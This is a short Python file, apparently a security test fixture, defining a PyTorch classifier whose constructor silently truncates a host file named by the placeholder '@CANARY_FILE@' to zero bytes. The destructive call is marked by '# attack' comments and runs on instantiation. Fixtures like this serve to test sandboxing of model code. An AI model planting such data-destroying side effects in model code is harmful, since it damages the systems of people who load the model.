"""Cuts a file of the host to nothing by its path alone."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        os.truncate("@CANARY_FILE@", 0)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
